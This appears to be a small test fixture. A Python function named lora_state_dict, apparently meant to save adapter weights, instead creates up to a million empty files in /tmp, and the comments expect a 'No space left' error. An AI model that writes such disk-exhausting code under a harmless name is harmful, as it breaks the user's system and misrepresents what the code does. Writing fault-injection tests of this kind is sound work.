"""Makes empty files without end."""

# on: reference
# costs: saves_the_factors_alone
# says: OSError.*No space left

def lora_state_dict(model):
    for number in range(10**6):
        open(f"/tmp/{number}", "w").close()
